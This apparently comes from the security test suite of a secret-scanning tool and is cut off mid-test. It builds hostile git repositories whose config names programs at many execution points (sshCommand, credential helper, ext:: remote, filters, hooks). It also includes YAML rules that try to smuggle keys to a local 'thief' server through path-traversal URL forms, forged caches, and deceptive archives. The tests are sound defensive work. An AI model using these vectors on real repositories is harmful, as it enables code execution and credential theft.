/**
 * Auditing a repository somebody else prepared: the scanned repository is
 * input, never authority. Each repository here is built to attack the auditor
 * (a vendor's tarball, a fork, an acquisition's code): its config names
 * programs, its partial clone wants to fetch, it carries a forged scan cache,
 * its .sk-scan.yaml tries to send keys elsewhere or to switch detection off.
 * For each: nothing it names runs, nothing is written to it, no key leaves
 * except to the verify origin the user chose, and a scan that did not read
 * everything does not pass.
 */
import { execFileSync } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, realpathSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join, relative } from 'node:path';
import { createHash, randomBytes } from 'node:crypto';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { requestUrl } from '../../src/verify/client.js';
import { cacheFileIn } from '../../src/sources/git/cache.js';
import { gitEnv, makeRepo, type TestRepo } from '../helpers/git.js';
import { gzip, tar, zip } from '../helpers/archives.js';
import { ociLayout } from '../helpers/images.js';
import { fakeKey } from '../helpers/keys.js';
import { startPlatform, type FakePlatform } from '../helpers/platform.js';
import { ROOT, runCli, runCliAsync, tempDir, writeTree } from '../helpers/run.js';

/** Every file under `dir` with its size and a hash of its bytes: what a scan must leave exactly as it was. */
function snapshot(dir: string): Record<string, string> {
  const out: Record<string, string> = {};
  const walk = (d: string) => {
    for (const e of readdirSync(d, { withFileTypes: true })) {
      const p = join(d, e.name);
      if (e.isDirectory()) walk(p);
      else if (e.isFile()) out[relative(dir, p)] = `${statSync(p).size}:${createHash('sha256').update(readFileSync(p)).digest('hex').slice(0, 16)}`;
      else out[relative(dir, p)] = e.isSymbolicLink() ? 'link' : 'other';
    }
  };
  walk(dir);
  return out;
}

/** A program that records that it ran (a file named after it in `marks`), then fails. */
function payloads(marks: string, names: string[]): Record<string, string> {
  const bin = tempDir('sk-scan-payload-');
  const out: Record<string, string> = {};
  for (const name of names) {
    const p = join(bin, name);
    writeFileSync(p, `#!/bin/sh\ntouch '${join(marks, name)}'\ncat >/dev/null 2>&1 &\nexit 1\n`);
    chmodSync(p, 0o755);
    out[name] = p;
  }
  return out;
}

const HOOKS = ['pre-auto-gc', 'reference-transaction', 'post-checkout', 'post-merge', 'post-rewrite', 'pre-commit', 'post-commit', 'pre-push', 'fsmonitor-watchman', 'post-index-change'];
const PROGRAMS = [
  'uploadpack',
  'gitproxy',
  'sshcommand',
  'credential',
  'askpass',
  'ext',
  'alternaterefs',
  'fsmonitor',
  'pager',
  'diffexternal',
  'textconv',
  'clean',
  'smudge',
  'process',
  'gpg',
  'packobjectshook',
  'included-pager',
  'editor',
  'sequence-editor',
  ...HOOKS.map((h) => `hook-${h}`),
];

/** A server that asks for credentials (401), so that git would call a credential helper and askpass. */
let asking: Server;
let askingUrl = '';
beforeAll(async () => {
  asking = createServer((_req, res) => {
    res.writeHead(401, { 'WWW-Authenticate': 'Basic realm="x"' });
    res.end();
  });
  await new Promise<void>((resolve) => asking.listen(0, '127.0.0.1', resolve));
  askingUrl = `http://127.0.0.1:${(asking.address() as AddressInfo).port}/repo.git`;
});
afterAll(() => new Promise<void>((resolve) => asking.close(() => resolve())));

interface Hostile {
  repo: TestRepo;
  marks: string;
  key: string;
  /** Another repository on the machine whose objects the hostile one borrows (alternates), with its own key. */
  company: TestRepo;
  companyKey: string;
}

/**
 * A working tree whose config names a program at every place git would run
 * one, as several promisor remotes (each a way git reaches a remote), hooks
 * for everything, and an alternates file into another repository. With
 * `missing`, one blob of its history is gone from the store, so that git
 * would fetch it lazily.
 */
function hostileRepo(missing: boolean): Hostile {
  const marks = tempDir('sk-scan-marks-');
  const run = payloads(marks, PROGRAMS);
  const company = makeRepo();
  const companyKey = fakeKey('live');
  company.commit('company secrets', { 'prod.env': `K=${companyKey}\n` });
  company.git('gc', '-q');

  // In a folder of its own: scanning "the folder of repositories" around it must find only it.
  const repo = makeRepo({ dir: join(tempDir('sk-scan-hostile-'), 'hostile') });
  const key = fakeKey('live');
  repo.commit('one', { 'app.js': 'console.log(1)\n', '.gitattributes': '* diff=evil filter=evil\n' });
  repo.commit('two', { 'config.env': `K=${key}\n` });
  repo.commit('three', { 'app.js': 'console.log(3)\n' });
  repo.git('gc', '-q');
  // git itself, once the config below is set, would run the payloads: it runs here without them.
  const plain = (args: string[], input?: string) =>
    execFileSync('git', ['-c', 'core.fsmonitor=false', '-c', 'core.hooksPath=/dev/null', '-c', 'gc.auto=0', ...args], { cwd: repo.dir, env: { ...gitEnv(), GIT_CONFIG_GLOBAL: '/dev/null', GIT_NO_LAZY_FETCH: '1' }, input, stdio: ['pipe', 'pipe', 'pipe'] }).toString();
  if (missing) {
    // A staged file whose blob is gone from the store: git would fetch it for the staged scan.
    const staged = plain(['hash-object', '-w', '--no-filters', '--stdin'], 'STAGED=1\n').trim();
    plain(['update-index', '--add', '--cacheinfo', `100644,${staged},staged.env`]);
    execFileSync('rm', ['-f', join(repo.dir, '.git', 'objects', staged.slice(0, 2), staged.slice(2))]);
  }
  const hooks = join(repo.dir, 'evil-hooks');
  mkdirSync(hooks);
  for (const h of HOOKS) symlinkSync(run[`hook-${h}`] as string, join(hooks, h));
  writeFileSync(join(repo.dir, 'evil.inc'), `[core]\n\tpager = ${run['included-pager']}\n`);
  const set = (k: string, v: string) => repo.git('config', '--add', k, v);
  // Promisor remotes, one per way of reaching a remote, each naming a program.
  set('extensions.partialclone', 'origin');
  set('remote.origin.url', `file://${company.dir}`);
  set('remote.origin.promisor', 'true');
  set('remote.origin.uploadpack', run['uploadpack'] as string);
  set('remote.proxied.url', 'git://127.0.0.1:9/x.git');
  set('remote.proxied.promisor', 'true');
  set('core.gitProxy', run['gitproxy'] as string);
  set('remote.sshed.url', 'ssh://127.0.0.1:9/x.git');
  set('remote.sshed.promisor', 'true');
  set('core.sshCommand', run['sshcommand'] as string);
  set('remote.asking.url', askingUrl);
  set('remote.asking.promisor', 'true');
  set('credential.helper', `!${run['credential'] as string}`);
  set('core.askPass', run['askpass'] as string);
  set('remote.ext.url', `ext::${run['ext'] as string}`);
  set('remote.ext.promisor', 'true');
  set('protocol.ext.allow', 'always');
  set('protocol.allow', 'always');
  // Everything else git may run.
  set('core.alternateRefsCommand', run['alternaterefs'] as string);
  set('core.fsmonitor', run['fsmonitor'] as string);
  set('core.pager', run['pager'] as string);
  set('diff.external', run['diffexternal'] as string);
  set('diff.evil.textconv', run['textconv'] as string);
  set('filter.evil.clean', run['clean'] as string);
  set('filter.evil.smudge', run['smudge'] as string);
  set('filter.evil.process', run['process'] as string);
  set('gpg.program', run['gpg'] as string);
  set('log.showSignature', 'true');
  set('uploadpack.packObjectsHook', run['packobjectshook'] as string);
  set('include.path', join(repo.dir, 'evil.inc'));
  set('core.editor', run['editor'] as string);
  set('sequence.editor', run['sequence-editor'] as string);
  set('core.hooksPath', hooks);
  set('gc.auto', '1');
  set('gc.autoPackLimit', '1');
  set('maintenance.auto', 'true');
  // Borrowed objects: another repository on the machine, with a key of its own.
  writeFileSync(join(repo.dir, '.git', 'objects', 'info', 'alternates'), `${join(company.dir, '.git', 'objects')}\n`);
  const pack = join(repo.dir, '.git', 'objects', 'pack');
  if (missing) {
    const blob = plain(['rev-parse', 'HEAD~1:config.env']).trim();
    // The pack without that blob (a partial clone's), and a .promisor file beside it.
    const keep = plain(['rev-list', '--objects', '--all']).split('\n').map((l) => l.split(' ')[0]).filter((id) => id && id !== blob);
    const staging = tempDir('sk-scan-pack-');
    const name = plain(['pack-objects', '-q', join(staging, 'pack')], `${keep.join('\n')}\n`).trim();
    for (const f of readdirSync(pack)) execFileSync('rm', ['-f', join(pack, f)]);
    for (const f of readdirSync(staging)) execFileSync('mv', [join(staging, f), pack]);
    writeFileSync(join(pack, `pack-${name}.promisor`), '');
  }
  // Two more packs, so that an automatic gc would have something to repack.
  for (const n of [1, 2]) {
    const blob = plain(['hash-object', '-w', '--no-filters', '--stdin'], `extra ${n}\n`).trim();
    plain(['pack-objects', '-q', join(pack, 'pack')], `${blob}\n`);
  }
  return { repo, marks, key, company, companyKey };
}

describe('a repository whose config names programs', () => {
  for (const missing of [false, true]) {
    it(`runs none of them and writes nothing to it, for every command${missing ? ', with a blob missing from its store' : ''}`, async () => {
      const h = hostileRepo(missing);
      const { repo } = h;
      for (const f of readdirSync(h.marks)) execFileSync('rm', ['-f', join(h.marks, f)]);
      const before = snapshot(join(repo.dir, '.git'));
      const tree = snapshot(repo.dir);
      const head = repo.git('rev-parse', 'HEAD').trim();
      const folder = join(repo.dir, '..');
      const runs: [string[], string?][] = [
        [['git', repo.dir]],
        [['git', repo.dir]], // again: with the cache the first one wrote
        [['git', repo.dir, '--no-cache']],
        [['git', repo.dir, '--range', 'HEAD~2..HEAD']],
        [['git', repo.dir, '--since', '2000-01-01']],
        [['git', repo.dir, '--since', '2000-01-01', '--no-fetch']],
        [['git', folder]],
        [['git', `file://${repo.dir}`]],
        [['git']],
        [['staged']],
        [['staged', 'config.env']],
        [['pre-push', 'origin', 'file:///nowhere'], `refs/heads/main ${head} refs/heads/main ${'0'.repeat(40)}\n`],
        [['dir', repo.dir]],
      ];
      for (const [args, input] of runs) {
        const r = await runCliAsync([...args, '--format', 'json'], { cwd: repo.dir, input, timeoutMs: 60_000 });
        // A report, or one line saying why not (git will not clone a store that lacks a blob; the staged diff cannot read one).
        expect({ args, code: [0, 1, 2].includes(r.code), said: r.stdout.length > 0 || /^sk-scan: error: (cannot clone |the staged change cannot be read: object [0-9a-f]{40} is missing)/m.test(r.stderr) }).toEqual({ args, code: true, said: true });
        expect({ args, ran: readdirSync(h.marks) }).toEqual({ args, ran: [] });
        // The company's key, borrowed through alternates, is never reported as this repository's.
        expect(r.stdout).not.toContain(h.companyKey.slice(-4));
      }
      // Nothing written to the repository: not a pack, not a cache, not a ref.
      expect(snapshot(join(repo.dir, '.git'))).toEqual(before);
      expect(snapshot(repo.dir)).toEqual(tree);
    }, 240_000);
  }

  it('names what it did not read, and does not pass: a missing blob, borrowed objects', async () => {
    const h = hostileRepo(true);
    const r = await runCliAsync(['git', h.repo.dir, '--format', 'json']);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/missing from this partial clone \(sk-scan never fetches\)/);
    expect(r.stderr).toMatch(/it borrows objects from \S+ \(objects\/info\/alternates\)/);
    expect(r.stderr).toMatch(/fetch them with git -C .* fetch --refetch --no-filter origin and scan again/);
    expect(readdirSync(h.marks)).toEqual([]);
  }, 60_000);
});

describe('a scan cache the repository carries', () => {
  function forged(repo: TestRepo): void {
    // What an older sk-scan would have read: every object listed clean, with a correct checksum.
    const ids = repo.git('cat-file', '--batch-all-objects', '--batch-check=%(objectname)').trim().split('\n').sort();
    const records = Buffer.concat(ids.map((id) => Buffer.from(id, 'hex')));
    for (const magic of ['sk-scan clean objects 1', 'sk-scan clean objects 2']) {
      const head = Buffer.from(`${magic}\nkey ${'0'.repeat(64)}\nchecked -\ncount ${ids.length}\n`);
      const digest = createHash('sha256').update(head).update(records).digest();
      mkdirSync(join(repo.dir, '.git', 'sk-scan'), { recursive: true });
      writeFileSync(join(repo.dir, '.git', 'sk-scan', 'clean-objects'), Buffer.concat([head, records, digest]));
    }
  }

  it('is never read: a forged one hides nothing, and a link to /dev/zero or a FIFO there hangs nothing', () => {
    const repo = makeRepo();
    const key = fakeKey('live');
    repo.commit('k', { 'a.env': `K=${key}\n` });
    repo.git('commit', '-q', '--allow-empty', '-m', `webhook_secret=${'Kq83mZpL0vYt2RbX9sWc4NdE7uFa'}`);
    forged(repo);
    const r = runCli(['git', repo.dir, '--format', 'json'], { timeout: 30_000 });
    expect(r.code).toBe(1);
    expect(JSON.parse(r.stdout).findings).toHaveLength(2);
    expect(JSON.parse(r.stdout).stats.cached).toBe(0);
    execFileSync('rm', ['-f', join(repo.dir, '.git', 'sk-scan', 'clean-objects')]);
    symlinkSync('/dev/zero', join(repo.dir, '.git', 'sk-scan', 'clean-objects'));
    execFileSync('mkfifo', [join(repo.dir, '.git', 'sk-scan', 'clean-objects.places')]);
    const again = runCli(['git', repo.dir, '--format', 'json', '--no-cache'], { timeout: 30_000, killSignal: 'SIGKILL' });
    expect(again.code).toBe(1);
  });

  it("in the user's cache folder, a FIFO or a link to /dev/zero is a warning in a moment, and the file is rewritten", () => {
    const repo = makeRepo();
    repo.commit('one', { 'a.txt': 'a\n' });
    const cache = tempDir('sk-scan-own-cache-');
    const file = cacheFileIn(cache, realpathSync(join(repo.dir, '.git')));
    symlinkSync('/dev/zero', file);
    execFileSync('mkfifo', [`${file}.places`]);
    const r = runCli(['git', repo.dir, '--cache', cache], { timeout: 30_000, killSignal: 'SIGKILL' });
    expect(r.code).toBe(0);
    expect(r.stderr).toMatch(/scan cache .*\.cache: is not a regular file: not read; every object is read, and it is rewritten/);
  });

  it('a store that lost a blob since the last audit is walked again, and does not pass', () => {
    const repo = makeRepo();
    repo.commit('one', { 'a.txt': 'a\n' });
    repo.commit('two', { 'b.txt': 'b\n' });
    expect(runCli(['git', repo.dir]).code).toBe(0);
    const blob = repo.git('rev-parse', 'HEAD:b.txt').trim();
    execFileSync('rm', ['-f', join(repo.dir, '.git', 'objects', blob.slice(0, 2), blob.slice(2))]);
    const r = runCli(['git', repo.dir]);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain(`cannot read object ${blob} (b.txt in commit`);
  });
});

describe("a repository's .sk-scan.yaml and --verify", () => {
  let platform: FakePlatform;
  let thief: Server;
  const stolen: string[] = [];
  let thiefPort = 0;
  beforeAll(async () => {
    platform = await startPlatform();
    thief = createServer((req, res) => {
      stolen.push(`${req.url ?? ''} ${JSON.stringify(req.headers)}`);
      res.writeHead(200, { 'Content-Type': 'application/json' });
      res.end('{}');
    });
    await new Promise<void>((resolve) => thief.listen(0, '127.0.0.1', resolve));
    thiefPort = (thief.address() as AddressInfo).port;
  });
  afterAll(async () => {
    await platform.close();
    await new Promise<void>((resolve) => thief.close(() => resolve()));
  });

  const stealing = (path: string, responses = "        - { status: 200, result: inactive, reason: invalid }\n") =>
    [
      'disable: [chatbot-live-key, chatbot-test-key, chatbot-webhook-secret]',
      'rules:',
      '  - id: live-copy',
      '    description: copy',
      '    severity: low',
      '    kind: test',
      '    keywords: [sk_live_]',
      "    pattern: '(?<secret>sk_live_[A-Za-z0-9]{16,64})'",
      '    verify:',
      '      request:',
      `        path: '${path}'`,
      "        headers: { Authorization: 'Bearer {{secret}}', X-Debug: '{{secret}}' }",
      '      responses:',
      responses,
    ].join('\n');

  it('cannot send a key anywhere but the verify origin the user chose: every form of another host is refused where it is written', async () => {
    const forms = [`//127.0.0.1:${thiefPort}/steal`, `/\\127.0.0.1:${thiefPort}/steal`, '/../../steal', '/v1/%2e%2e/steal', `http://127.0.0.1:${thiefPort}/steal`, `/@127.0.0.1:${thiefPort}/steal`, '/v1/./x', `/%2f%2f127.0.0.1:${thiefPort}`];
    for (const form of forms) {
      const key = fakeKey('live');
      const dir = writeTree(tempDir(), { '.sk-scan.yaml': stealing(form), 'app.env': `K=${key}\n` });
      const r = await runCliAsync(['dir', dir, '--verify', '--verify-url', platform.url]);
      expect({ form, code: r.code }).toEqual({ form, code: 2 });
      expect(r.stderr).toMatch(/\.sk-scan\.yaml:11: rule `live-copy`: `verify`\.request\.path /);
      expect(r.stderr).not.toContain(key);
    }
    expect(stolen).toEqual([]);
    // And checked again before any connection, whatever the rule's path: the origin and the endpoint's path hold.
    const base = new URL('https://api.example.test/v1');
    for (const form of forms) {
      const url = requestUrl(base, form);
      expect({ form, kept: url === null || (url.origin === base.origin && url.pathname.startsWith('/v1/')) }).toEqual({ form, kept: true });
    }
    expect(requestUrl(base, '/../../steal')).toBeNull();
    expect(requestUrl(base, '/bots')?.href).toBe('https://api.example.test/v1/bots');
  }, 60_000);

  it("decides a platform key's verdict by the built-in check, whatever the repository's rule says its answers mean", async () => {
    const key = fakeKey('live');
    platform.keys.set(key, 'active');
    const dir = writeTree(tempDir(), { '.sk-scan.yaml': stealing('/v1/bots'), 'app.env': `K=${key}\n` });
    const r = await runCliAsync(['dir', dir, '--verify', '--verify-url', platform.url, '--format', 'json']);
    expect(r.code).toBe(1);
    const finding = JSON.parse(r.stdout).findings[0];
    expect(finding.verification).toEqual({ status: 'active', reason: 'ok', httpStatus: 200 });
    expect(stolen).toEqual([]);
  }, 60_000);

  it('sends no borrowed key: objects another repository lends through alternates are not read, let alone verified', async () => {
    const h = hostileRepo(false);
    platform.keys.set(h.companyKey, 'active');
    const r = await runCliAsync(['git', h.repo.dir, '--verify', '--verify-url', platform.url, '--format', 'json']);
    expect(platform.requests.has(h.companyKey)).toBe(false);
    expect(r.stdout).not.toContain(h.companyKey.slice(-4));
  }, 60_000);
});

describe("what the scanned tree's settings changed is said in every format", () => {
  /** A repository whose .sk-scan.yaml switches detection off, with a live key, a webhook secret in a message, and a key behind an allow comment. */
  function quiet(): { repo: TestRepo; keys: string[] } {
    // In a folder of its own: "the folder of repositories" around it must hold only it.
    const repo = makeRepo({ dir: join(tempDir('sk-scan-quiet-'), 'quiet') });
    const keys = [fakeKey('live'), fakeKey('live')];
    repo.commit('config', {
      '.sk-scan.yaml': 'disable: [chatbot-live-key, chatbot-test-key, chatbot-webhook-secret]\nmaxFileSize: 1\n',
      'app.env': `K=${keys[0]}\n`,
      'fixture.env': `K=${keys[1]} # sk-scan:allow -- demo key\n`,
    });
    return { repo, keys };
  }

  it('a config that disables every rule and sets maxFileSize: 1 is named, by file, kind and count, in each format', () => {
    const { repo } = quiet();
    const text = runCli(['git', repo.dir]);
    expect(text.code).toBe(0);
    // Read as one line: the report wraps at 80 columns.
    const said = text.stdout.replace(/\s+/g, ' ');
    expect(said).toMatch(/^No secrets found with the settings below\./);
    expect(said).toContain(".sk-scan.yaml (the scanned tree's) disables 3 built-in rules: chatbot-live-key, chatbot-test-key, chatbot-webhook-secret");
    expect(said).toMatch(/sets maxFileSize to 1 B \(default 100\.0 MiB\): \d+ items skipped as too large/);
    const json = JSON.parse(runCli(['git', repo.dir, '--format', 'json']).stdout);
    expect(json.settings.mode).toBe('standard');
    expect(json.settings.changes.map((c: { kind: string; count: number; from: string }) => [c.kind, c.from, c.count > 0])).toEqual([
      ['rules-disabled', 'target', true],
      ['max-file-size', 'target', true],
    ]);
    for (const format of ['sarif', 'html', 'markdown', 'junit', 'github']) {
      const out = runCli(['git', repo.dir, '--format', format]).stdout;
      expect({ format, says: /disables 3 built-in rules/.test(out) && /maxFileSize/.test(out) && /\.sk-scan\.yaml/.test(out) }).toEqual({ format, says: true });
    }
  });

  it("counts what .sk-scanignore, the baseline, exclude, .gitignore and allow comments accepted or kept from being read", () => {
    const dir = tempDir();
    const k = () => `K=${fakeKey('live')}\n`;
    writeTree(dir, {
      '.sk-scan.yaml': 'exclude: [vendor/]\n',
      '.sk-scanignore': 'fixtures/\n',
      '.gitignore': 'build/\n',
      'vendor/a.env': k(),
      'build/b.env': k(),
      'fixtures/c.env': k(),
      'd.env': `${k().trim()} # sk-scan:allow -- a sample\n`,
      'e.env': k(),
    });
    execFileSync('git', ['init', '-q', dir]);
    expect(runCli(['dir', dir, '--update-baseline']).code).toBe(0);
    const json = JSON.parse(runCli(['dir', dir, '--format', 'json']).stdout);
    const changes = Object.fromEntries(json.settings.changes.map((c: { kind: string; count: number }) => [c.kind, c.count]));
    expect(changes).toEqual({ exclude: 1, gitignore: 1, 'ignore-file': 1, baseline: 1, 'allow-comments': 1 });
    const text = runCli(['dir', dir]).stdout.replace(/\s+/g, ' ');
    expect(text).toContain(".sk-scan.yaml (the scanned tree's) excludes vendor/: 1 path not read (vendor/)");
    expect(text).toContain('.gitignore files ignore 1 path, not read (build/; --no-ignore reads them)');
    expect(text).toContain(".sk-scanignore (the scanned tree's) accepts 1 finding by path");
    expect(text).toContain('sk-scan:allow comments accept 1 finding');
  });

  it('--audit reads none of the tree\'s settings: the key is found, the allowed one is reported and marked, and the header says so', () => {
    const { repo, keys } = quiet();
    const r = runCli(['git', repo.dir, '--audit', '--format', 'json']);
    expect(r.code).toBe(1);
    const report = JSON.parse(r.stdout);
    expect(report.settings.mode).toBe('audit');
    expect(report.findings.map((f: { path: string; allowedInRepository?: unknown }) => [f.path, f.allowedInRepository ?? null])).toEqual([
      ['app.env', null],
      ['fixture.env', { reason: 'demo key' }],
    ]);
    const text = runCli(['git', repo.dir, '--audit']).stdout;
    expect(text).toMatch(/^sk-scan: 2 keys in 2 places.*\nRun in audit mode: the scanned tree's own settings/);
    expect(text.replace(/\s+/g, ' ')).toMatch(/fixture\.env:1:3 \w{7} [\d-]+ Dev One · allowed in the repository \(sk-scan:allow -- demo key\)/);
    // Accepting them goes into a baseline of the auditor's, never into the repository.
    const advice = /outside\s+the\s+scanned\s+tree,\s+with:\n {2}(.+)$/m.exec(text)?.[1] ?? '';
    expect(advice).toMatch(/ git \S+ --audit --update-baseline --baseline ~\/sk-scan-audit-baseline\.json$/);
    const refused = runCli(['git', repo.dir, '--audit', '--update-baseline', '--baseline', join(repo.dir, 'b.json')]);
    expect(refused.code).toBe(2);
    expect(refused.stderr).toMatch(/audit mode writes nothing into the scanned tree/);
    expect(existsSync(join(repo.dir, 'b.json'))).toBe(false);
    for (const key of keys) expect(text).not.toContain(key);
  });

  it('is implied for a URL, a folder of repositories and a targets file; dir --audit reads what .gitignore hides', () => {
    const { repo } = quiet();
    for (const args of [['git', `file://${repo.dir}`], ['git', join(repo.dir, '..')], ['git', '--targets-file', writeTree(tempDir(), { 't.txt': `${repo.dir}\n` }) + '/t.txt']]) {
      const r = runCli([...args, '--format', 'json']);
      expect({ args, code: r.code, mode: JSON.parse(r.stdout).settings.mode }).toEqual({ args, code: 1, mode: 'audit' });
    }
    const dir = writeTree(tempDir(), { '.gitignore': '*.env\n', 'hidden.env': `K=${fakeKey('live')}\n` });
    execFileSync('git', ['init', '-q', dir]);
    expect(runCli(['dir', dir]).code).toBe(0);
    expect(runCli(['dir', dir, '--audit']).code).toBe(1);
  });

  it('writes the settings into SARIF that passes the multitool with GitHub\'s rules, and no file name becomes an absolute URI', () => {
    const repo = makeRepo();
    repo.commit('names', { 'javascript:alert(document.domain)': `K=${fakeKey('live')}\n`, '.sk-scan.yaml': 'disable: [chatbot-test-key]\n' });
    const out = join(tempDir(), 'r.sarif');
    expect(runCli(['git', repo.dir, '--format', 'sarif', '--output', out]).code).toBe(1);
    const sarif = JSON.parse(readFileSync(out, 'utf8'));
    const uri = sarif.runs[0].results[0].locations[0].physicalLocation.artifactLocation.uri as string;
    expect(uri).toBe('javascript%3Aalert(document.domain)');
    expect(new URL(uri, 'https://example.test/root/').href).toBe('https://example.test/root/javascript%3Aalert(document.domain)');
    expect(sarif.runs[0].invocations[0].toolConfigurationNotifications[0].message.text).toMatch(/disables 1 built-in rule: chatbot-test-key/);
    const multitool = join(ROOT, 'node_modules', '@microsoft', 'sarif-multitool-linux', 'Sarif.Multitool');
    chmodSync(multitool, 0o755);
    const v = execFileSync(multitool, ['validate', '--rule-kind', 'Gh;Sarif', out], { encoding: 'utf8' });
    expect(v).toMatch(/Analysis completed successfully/);
    expect(v).not.toMatch(/: error /);
  });

  it('the HTML report allows its one script by hash, not unsafe-inline', () => {
    const out = join(tempDir(), 'r.html');
    runCli(['stdin', '--format', 'html', '--output', out], { input: `K=${fakeKey('live')}\n` });
    const html = readFileSync(out, 'utf8');
    const csp = /Content-Security-Policy" content="([^"]*)"/.exec(html)?.[1] ?? '';
    const script = /<script>([\s\S]*)<\/script>/.exec(html)?.[1] ?? '';
    expect(csp).toContain(`script-src 'sha256-${createHash('sha256').update(script).digest('base64')}'`);
    expect(csp).not.toMatch(/script-src[^;]*unsafe-inline/);
  });
});

describe('archives that are not what they say', () => {
  const KEY_LINE = (key: string) => `CHATBOT_API_KEY=${key}\n`;
  const gz = (b: Buffer) => gzipSync(b);

  it('opens a tgz in three zips and gzip in gzip in gzip in gzip; past six levels it names the archive and does not pass', () => {
    const key = fakeKey('live');
    let three = gzip(tar({ 'p/.env': KEY_LINE(key) }));
    for (let i = 0; i < 3; i++) three = zip([{ name: `level${i}.zip`, data: three, method: 0 }]);
    const four = gz(gz(gz(gz(Buffer.from(KEY_LINE(key))))));
    const dir = writeTree(tempDir(), { 'three.zip': three, 'four.gz': four });
    const r = JSON.parse(runCli(['dir', dir, '--format', 'json']).stdout);
    expect(r.findings.map((f: { path: string; member: string }) => `${f.path}!${f.member}`).sort()).toEqual(['four.gz!four!four!four!four', 'three.zip!level2.zip!level1.zip!level0.zip!p/.env']);
    let deep = Buffer.from(KEY_LINE(fakeKey('live')));
    for (let i = 0; i < 8; i++) deep = gz(deep);
    const tooDeep = runCli(['dir', writeTree(tempDir(), { 'deep.gz': deep })]);
    expect(tooDeep.code).toBe(2);
    expect(tooDeep.stderr).toMatch(/cannot open deep\.gz!(deep!)+deep: an archive nested more than 6 deep: not opened/);
  });

  it('reads a member whatever size the directory claims for it, and a directory that claims 0xFFFF entries without a zip64 record', () => {
    const key = fakeKey('live');
    const liar = zip([{ name: 'app.env', data: KEY_LINE(key), statedSize: 0xfffffffe }]);
    expect(liar.length).toBeLessThan(300);
    const many = zip([{ name: 'a.txt', data: 'hello\n' }, { name: 'b.env', data: KEY_LINE(key) }]);
    many.writeUInt16LE(0xffff, many.length - 22 + 8);
    many.writeUInt16LE(0xffff, many.length - 22 + 10);
    const dir = writeTree(tempDir(), { 'liar.zip': liar, 'many.zip': many });
    const r = runCli(['dir', dir, '--format', 'json']);
    expect(r.code).toBe(1);
    expect(JSON.parse(r.stdout).findings.map((f: { path: string }) => f.path).sort()).toEqual(['liar.zip', 'many.zip']);
  });

  it('reads each byte range once: 60,000 directory entries over one member cannot spend the budget before the member with the key', () => {
    const key = fakeKey('live');
    const base = zip([{ name: 'decoy.txt', data: 'x'.repeat(8000) }, { name: 'key.env', data: KEY_LINE(key) }]);
    // The directory: the decoy's record 60,000 times, then the key's.
    const end = base.length - 22;
    const dirAt = base.readUInt32LE(end + 16);
    const recordLength = (at: number) => 46 + base.readUInt16LE(at + 28) + base.readUInt16LE(at + 30) + base.readUInt16LE(at + 32);
    const decoy = base.subarray(dirAt, dirAt + recordLength(dirAt));
    const keyRecord = base.subarray(dirAt + decoy.length, end);
    const directory = Buffer.concat([...Array.from({ length: 60_000 }, () => decoy), keyRecord]);
    const eocd = Buffer.from(base.subarray(end));
    eocd.writeUInt16LE(0xffff, 8);
    eocd.writeUInt16LE(0xffff, 10);
    eocd.writeUInt32LE(directory.length, 12);
    const forged = Buffer.concat([base.subarray(0, dirAt), directory, eocd]);
    const r = runCli(['dir', writeTree(tempDir(), { 'forged.zip': forged }), '--format', 'json'], { timeout: 60_000 });
    expect(r.code).toBe(1);
    const report = JSON.parse(r.stdout);
    expect(report.findings.map((f: { member: string }) => f.member)).toEqual(['key.env']);
    expect(report.warnings.join('\n')).toMatch(/59,996 more entries lie in bytes other entries hold/);
  });

  it('reads a truncated .tgz as far as it goes, and names the cut', () => {
    const key = fakeKey('live');
    const whole = gz(tar({ 'a.env': KEY_LINE(key), 'b.bin': randomBytes(20_000) }));
    const cut = whole.subarray(0, whole.length - 4000);
    const r = runCli(['dir', writeTree(tempDir(), { 'release.tgz': cut }), '--format', 'json']);
    expect(r.code).toBe(1);
    const report = JSON.parse(r.stdout);
    expect(report.findings.map((f: { member: string }) => f.member)).toEqual(['a.env']);
    expect(report.warnings.join('\n')).toMatch(/cannot open release\.tgz: damaged gzip: cut off inside b\.bin/);
    // Without a key in what it holds, a cut archive does not pass.
    const clean = gz(tar({ 'a.txt': 'nothing\n', 'b.bin': randomBytes(20_000) }));
    expect(runCli(['dir', writeTree(tempDir(), { 'release.tgz': clean.subarray(0, clean.length - 4000) })]).code).toBe(2);
  });

  it('a damaged archive the user accepts by name in .sk-scanignore (a path, or the blob\'s fingerprint in history) passes, counted', () => {
    const damaged = zip([{ name: 'bad.txt', data: 'x', rawData: Buffer.from([0xff, 0xff, 0xff, 0xff]) }]);
    const dir = writeTree(tempDir(), { 'fixtures/broken.zip': damaged, 'ok.txt': 'fine\n' });
    expect(runCli(['dir', dir]).code).toBe(2);
    writeTree(dir, { '.sk-scanignore': 'fixtures/broken.zip\n' });
    const r = runCli(['dir', dir, '--format', 'json']);
    expect(r.code).toBe(0);
    const report = JSON.parse(r.stdout);
    expect(report.stats.unreadAccepted).toBe(1);
    expect(report.warnings).toEqual(expect.arrayContaining([expect.stringMatching(/^accepted by \.sk-scanignore: cannot open fixtures\/broken\.zip!bad\.txt: damaged zip data/)]));
    expect(report.settings.changes.map((c: { kind: string; count: number }) => [c.kind, c.count])).toEqual([['ignore-file', 1]]);

    const repo = makeRepo();
    repo.commit('fixture', { 'fixtures/broken.zip': damaged });
    expect(runCli(['git', repo.dir]).code).toBe(2);
    const blob = repo.git('rev-parse', 'HEAD:fixtures/broken.zip').trim();
    repo.commit('accept it', { '.sk-scanignore': `${blob.slice(0, 16)}\n` });
    expect(runCli(['git', repo.dir]).code).toBe(0);
  });
});

describe('an OCI image layout that lies', () => {
  const sha = (b: Buffer | string) => createHash('sha256').update(b).digest('hex');

  it('an index that lists its own blob 40 times is read once: the cycle is named, in a moment, and the scan does not pass', () => {
    const dir = ociLayout(tempDir(), { layers: [{ 'app/readme.txt': 'hello\n' }] });
    const index = JSON.parse(readFileSync(join(dir, 'index.json'), 'utf8'));
    // A blob named X whose content is an index listing X 40 times (its bytes cannot hash to X: nothing checked that).
    const selfName = 'ab'.repeat(32);
    const self = { schemaVersion: 2, manifests: [...Array.from({ length: 40 }, () => ({ mediaType: 'application/vnd.oci.image.index.v1+json', digest: `sha256:${selfName}`, size: 1 })), ...index.manifests] };
